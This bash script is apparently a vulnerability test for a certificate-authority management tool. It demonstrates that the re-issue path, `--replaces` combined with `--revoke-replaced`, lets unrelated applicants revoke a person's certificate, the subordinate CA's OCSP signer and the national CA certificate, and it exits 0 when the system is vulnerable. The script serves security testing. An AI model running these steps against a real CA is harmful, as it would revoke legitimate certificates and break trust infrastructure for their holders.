#!/usr/bin/env bash
# B2 again, by the re-issue path: `application submit --replaces SERIAL` checks "a re-issue is for the same holder"
# only when the replaced certificate names a holder (IIN/BIN). An individual's application of ANY IIN "replaces" the
# CA's OCSP signing certificate, and a ROOT-ISSUE application of any organisation "replaces" the national CA's
# certificate; `certificate issue --revoke-replaced` then revokes them (superseded) in the same step: the OCSP
# responder's signer is revoked, the national CA's certificate is revoked at the root.
# Also: a company (NCA-ISSUE-LEGAL, any BIN) "replaces" a person's individual certificate (it names no BIN).
# Exit 0 = vulnerable (any of the three revoked).
NAME=reissue-revokes; . "$(dirname "$0")/common.sh"
setup_sub >/dev/null || { echo setup failed; cat $W/err; exit 1; }
as admin ca set --code ROOT cdp_url=http://crl.example.kz/ROOT.crl aia_url=http://ca.example.kz/ROOT.cer || { show $?; exit 1; }
TODAY=$(TZ=Asia/Almaty date +%F)
rootissue() { # ORG CA_NAME [--replaces S] -> APP approved
cat >$W/ra.json <<J
{"country":"KZ","region":"Astana","city":"Astana","org_name":"$1","ca_name":"$2","email":"ca@example.kz",
 "usage":["subordinate_ca"],"validity":"5y","application_date":"$TODAY","head_full_name":"Head Person"}
J
shift 2
as op application submit --ca ROOT --form ROOT-ISSUE --data $W/ra.json --attachments accreditation_certificate_copy --consent "$@" --json || { show $?; return 1; }
APP=$(jget id); as off2 application approve $APP || { show $?; return 1; }
}
rootissue "Genuine LLP" "Attack Sub CA" || exit 1
step "national CA SUB certified by ROOT" as off1 certificate issue --application $APP --csr $W/sub.csr --out $W/sub.pem --ca-passphrase-file $W/ca.pass --json
SUBSERIAL=$(jget serial)
step "imported" as admin ca import-cert --code SUB --cert $W/sub.pem
vuln=0
# 0. a company's NCA-ISSUE-LEGAL (any BIN) naming a person's IIN "replaces" that person's own individual certificate
N_APP=0; submit_approve "" Kasymova SUB >/dev/null && mkcsr $W/p.csr && issue $APP $W/p.csr $W/p.pem || { echo "individual issue failed"; cat $W/err; exit 1; }
P=$SERIAL; PIIN=$(python3 -c 'import json;print(json.load(open("'$W/app1.json'"))["iin"])')
cat >$W/legal.json <<J
{"bin":"230340123459","org_name":"Stranger LLP","short_name":"Stranger","iin":"$PIIN","surname":"Kasymova","name":"Aliya",
 "role":"employee","region":"Almaty","city":"Almaty","email":"a@example.kz","phone":"+77011234567","usage":["sign"],
 "validity":"1y","key_media":"file","application_date":"$TODAY"}
J
step "NCA-ISSUE-LEGAL of Stranger LLP --replaces the person's individual certificate $P" as op application submit --ca SUB --form NCA-ISSUE-LEGAL --data $W/legal.json --attachments identity_document_copy,state_registration,power_of_attorney --consent --replaces $P --json
L=$(jget id)
if [ -n "$L" ]; then
  as off2 application approve $L; mkcsr $W/l.csr
  step "issued with --revoke-replaced" as off1 certificate issue --application $L --csr $W/l.csr --out $W/l.pem --revoke-replaced --ca-passphrase-file $W/ca.pass
  as aud certificate show $P --ca SUB; st=$(grep -iE '^status' $W/out | tr -s ' '); echo "   the person's individual certificate: $st"
  echo "$st" | grep -q revoked && vuln=1
fi
# 1. an individual's re-issue "replacing" SUB's OCSP signer
ocsp_signer SUB >/dev/null || { echo "signer set-up failed"; cat $W/err; exit 1; }
OS=$(openssl x509 -in $W/ocsp-SUB.pem -noout -serial | cut -d= -f2)
write_app $W/r.json $(newiin 56) Other Person
step "NCA-ISSUE-IND of any IIN --replaces the OCSP signer $OS" as op application submit --ca SUB --form NCA-ISSUE-IND --data $W/r.json --attachments identity_document_copy --consent --replaces $OS --json
R=$(jget id)
if [ -n "$R" ]; then
  as off2 application approve $R; mkcsr $W/b.csr
  step "issued with --revoke-replaced" as off1 certificate issue --application $R --csr $W/b.csr --out $W/b.pem --revoke-replaced --ca-passphrase-file $W/ca.pass
  as aud certificate show $OS --ca SUB; st=$(grep -iE '^status' $W/out | tr -s ' '); echo "   OCSP signer: $st"
  echo "$st" | grep -q revoked && vuln=1
fi
# 2. ROOT-ISSUE of a stranger organisation "replacing" SUB's certificate
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout $W/evil.key -subj "/CN=x" -out $W/evil.csr 2>/dev/null
if rootissue "Stranger LLP" "Stranger CA" --replaces $SUBSERIAL; then
  step "stranger's CA certificate issued with --revoke-replaced" as off1 certificate issue --application $APP --csr $W/evil.csr --out $W/evil.pem --revoke-replaced --ca-passphrase-file $W/ca.pass
  as aud certificate show $SUBSERIAL --ca ROOT; st=$(grep -iE '^status' $W/out | tr -s ' '); echo "   national CA certificate: $st"
  echo "$st" | grep -q revoked && vuln=1
  as aud ca list; echo "   ca list: $(grep SUB $W/out | tr -s ' ')"
fi
[ $vuln = 1 ] && exit 0 || exit 1
